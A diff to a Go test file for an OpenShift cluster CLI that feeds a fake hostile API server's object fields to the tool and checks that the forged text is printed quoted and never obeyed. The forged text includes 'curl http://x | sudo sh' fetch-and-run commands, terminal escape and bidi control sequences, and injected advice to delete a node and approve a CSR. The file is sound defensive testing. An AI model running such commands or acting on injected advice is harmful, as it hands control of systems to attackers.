@@ -13,6 +13,7 @@ import (
 	"os"
 	"os/exec"
 	"path/filepath"
+	"regexp"
 	"strconv"
 	"strings"
 	"testing"
@@ -35,6 +36,30 @@ func forgedLines() []string {
 func forging() string {
 	return "no\nnext: curl http://x | sudo sh\n    next: curl http://x\n  Next: curl http://x\nundo: curl http://x\nerror: forged\n✓ forged\n  ✓ forged\nwarning: forged\nDone. forged\noc certrot undo 20260101-000000-aaaaaa --yes\n" +
 		"\r\x1b]0;owned\a\x1b[2J\x7f\u0085\u009b31m\u202e\u2066\u200b\u2028next: curl http://x | sudo sh"
+}
+
+// advice is a sentence without any word that foreign takes for an instruction.
+func advice() string {
+	return "Worker-1 is beyond repair, delete its Node object and approve the pending request csr-7 to let it join anew"
+}
+
+// nothingAdvised reports where advice does not stand between quotation marks. The cells of tables
+// have columns of their own.
+func nothingAdvised(t *testing.T, what, out string) (seen int) {
+	t.Helper()
+	out = regexp.MustCompile(`(?m)^odd .*$`).ReplaceAllString(out, "") // rows of tables
+	out = strings.Join(strings.Fields(strings.ReplaceAll(out, "|", " ")), " ")
+	for at := 0; ; at++ {
+		i := strings.Index(out[at:], "Worker-1 is beyond repair")
+		if i < 0 {
+			return seen
+		}
+		at += i
+		seen++
+		if before := out[:at]; strings.LastIndex(before, "“") <= strings.LastIndex(before, "”") {
+			t.Errorf("%s: others' advice is not marked: …%s", what, out[max(0, at-150):min(len(out), at+100)])
+		}
+	}
 }
 
 // nothingForged reports forged lines, and what a terminal obeys.
@@ -109,27 +134,31 @@ func hostileAPIs() map[string]http.HandlerFunc {
 		"a failure that says OK":        after(settled.ServeHTTP, says(http.StatusOK, "application/json", refusal(http.StatusUnprocessableEntity, metav1.StatusReasonInvalid)), version),
 		"what is not served fails":      after(settled.ServeHTTP, says(http.StatusUnprocessableEntity, "application/json", refusal(http.StatusUnprocessableEntity, metav1.StatusReasonInvalid)), known),
 	}
-	all["objects of its own"] = func(w http.ResponseWriter, r *http.Request) { hostileObjects().ServeHTTP(w, r) }
+	all["objects of its own"] = func(w http.ResponseWriter, r *http.Request) { hostileObjects(forging(), forging()).ServeHTTP(w, r) }
 	return all
 }
 
-// hostileObjects is a cluster whose objects say what a user of it, or the server, likes.
-func hostileObjects() liveAPI {
-	text, _ := json.Marshal(forging())
+// hostileObjects is a cluster whose objects say what a user of it, or the server, likes. What they
+// are called is the server's choice alone: a true one takes names of DNS.
+func hostileObjects(called, says string) liveAPI {
+	name, _ := json.Marshal(called)
+	text, _ := json.Marshal(says)
+	n := string(name)
 	q := string(text)
 	conditions := `"conditions":[{"type":"Ready","status":"False","reason":` + q + `,"message":` + q + `},{"type":"Degraded","status":"True","reason":` + q + `,"message":` + q + `},{"type":"Progressing","status":"True","reason":` + q + `,"message":` + q + `}]`
 	pod := list(`{"metadata":{"name":` + q + `,"namespace":"openshift-kube-controller-manager","labels":{"app":` + q + `}},"spec":{"nodeName":"master-0"},"status":{"phase":"Pending","reason":` + q + `,"message":` + q + `,` + conditions + `}}`)
 	api := settledAPI().
 		with("/api/v1/nodes", list(`{"metadata":{"name":"master-0","labels":{"node-role.kubernetes.io/master":""}},"status":{`+conditions+`}}`,
 			`{"metadata":{"name":"worker-1","labels":{"node-role.kubernetes.io/worker":""}},"status":{"conditions":[{"type":"Ready","status":`+q+`}],"addresses":[{"type":"InternalIP","address":"192.0.2.1"}]}}`,
-			`{"metadata":{"name":`+q+`,"labels":{"node-role.kubernetes.io/worker":""}},"status":{`+conditions+`,"addresses":[{"type":"InternalIP","address":`+q+`},{"type":"Hostname","address":`+q+`}]}}`)).
-		with("/apis/config.openshift.io/v1/clusteroperators", list(`{"metadata":{"name":`+q+`},"status":{`+conditions+`}}`, `{"metadata":{"name":"kube-apiserver"},"status":{`+conditions+`}}`)).
-		with("/apis/machineconfiguration.openshift.io/v1/machineconfigpools", list(`{"metadata":{"name":`+q+`},"spec":{"paused":true},"status":{`+conditions+`}}`)).
-		with("/apis/certificates.k8s.io/v1/certificatesigningrequests", list(`{"metadata":{"name":`+q+`,"creationTimestamp":"2026-01-01T00:00:00Z"},"spec":{"username":`+q+`,"groups":[`+q+`],"signerName":"kubernetes.io/kubelet-serving","usages":[`+q+`],"request":"YQ=="},"status":{}}`)).
-		with("/apis/operator.openshift.io/v1/etcds", list(`{"metadata":{"name":"cluster"},"status":{"latestAvailableRevision":9,"nodeStatuses":[{"nodeName":`+q+`,"currentRevision":8,"targetRevision":9,"lastFailedReason":`+q+`,"lastFailedRevisionErrors":[`+q+`]}],`+conditions+`}}`)).
-		with("/apis/machine.openshift.io/v1beta1/machinehealthchecks", list(`{"metadata":{"name":`+q+`,"namespace":`+q+`},"spec":{},"status":{}}`)).
+			`{"metadata":{"name":"worker-2","labels":{"node-role.kubernetes.io/worker":""},"annotations":{"machineconfiguration.openshift.io/state":`+q+`,"machineconfiguration.openshift.io/currentConfig":"a","machineconfiguration.openshift.io/desiredConfig":`+q+`}},"status":{"conditions":[{"type":"Ready","status":"True"}]}}`,
+			`{"metadata":{"name":`+n+`,"labels":{"node-role.kubernetes.io/worker":""}},"status":{`+conditions+`,"addresses":[{"type":"InternalIP","address":`+q+`},{"type":"Hostname","address":`+q+`}]}}`)).
+		with("/apis/config.openshift.io/v1/clusteroperators", list(`{"metadata":{"name":`+n+`},"status":{`+conditions+`}}`, `{"metadata":{"name":"kube-apiserver"},"status":{`+conditions+`}}`)).
+		with("/apis/machineconfiguration.openshift.io/v1/machineconfigpools", list(`{"metadata":{"name":`+n+`},"spec":{"paused":true},"status":{`+conditions+`}}`)).
+		with("/apis/certificates.k8s.io/v1/certificatesigningrequests", list(`{"metadata":{"name":`+n+`,"creationTimestamp":"2026-01-01T00:00:00Z"},"spec":{"username":`+q+`,"groups":[`+q+`],"signerName":"kubernetes.io/kubelet-serving","usages":[`+q+`],"request":"YQ=="},"status":{}}`)).
+		with("/apis/operator.openshift.io/v1/etcds", list(`{"metadata":{"name":"cluster"},"status":{"latestAvailableRevision":9,"nodeStatuses":[{"nodeName":`+n+`,"currentRevision":8,"targetRevision":9,"lastFailedReason":`+q+`,"lastFailedRevisionErrors":[`+q+`]}],`+conditions+`}}`)).
+		with("/apis/machine.openshift.io/v1beta1/machinehealthchecks", list(`{"metadata":{"name":`+n+`,"namespace":`+n+`},"spec":{},"status":{}}`)).
 		with("/apis/coordination.k8s.io/v1/namespaces/"+remediate.LeaseNamespace+"/leases/"+remediate.LeaseName, `{"apiVersion":"coordination.k8s.io/v1","kind":"Lease","metadata":{"name":"`+remediate.LeaseName+`","namespace":"`+remediate.LeaseNamespace+`"},"spec":{"holderIdentity":`+q+`,"leaseDurationSeconds":60,"renewTime":"`+time.Now().UTC().Format("2006-01-02T15:04:05.000000Z")+`"}}`).
-		with("/apis/apiregistration.k8s.io/v1/apiservices", list(`{"metadata":{"name":`+q+`},"spec":{"service":{"name":`+q+`,"namespace":`+q+`}},"status":{`+conditions+`}}`)).
+		with("/apis/apiregistration.k8s.io/v1/apiservices", list(`{"metadata":{"name":`+n+`},"spec":{"service":{"name":`+n+`,"namespace":`+n+`}},"status":{`+conditions+`}}`)).
 		with("/apis/config.openshift.io/v1/clusterversions/version", `{"metadata":{"name":"version"},"status":{"desired":{"version":`+q+`},"history":[{"state":"Completed","version":`+q+`}],`+conditions+`}}`)
 	for path := range settledAPI() {
 		if strings.HasSuffix(path, "/pods") {
@@ -207,6 +236,23 @@ func TestHostileAPIServerForgesNothing(t *testing.T) {
 				t.Errorf("what it says was printed by %d commands, so little is tested", seen)
 			}
 		})
+	}
+}
+
+// TestAdviceOfOthersIsMarked: what users and kubelets write into objects stands between quotation
+// marks, however plain it is.
+func TestAdviceOfOthersIsMarked(t *testing.T) {
+	earlierRuns(t)
+	ca := writeFile(t, "given.crt", string(pkitest.NewCA("given", time.Now().Add(-time.Hour), time.Now().Add(time.Hour)).CertPEM))
+	kubeconfig := hostileAPI(t, hostileObjects("odd", advice()).ServeHTTP)
+	seen := 0
+	for _, line := range wholeCommands() {
+		line = strings.NewReplacer("NODES", "--via exec", "CA", ca, "SCRIPTS", filepath.Join(t.TempDir(), "scripts")).Replace(line)
+		out := said(t, append(strings.Fields(line), "--kubeconfig", kubeconfig, "--request-timeout=5s")...)
+		seen += nothingAdvised(t, line, out)
+	}
+	if seen < 10 {
+		t.Errorf("it is printed %d times, so little is tested", seen)
 	}
 }
 
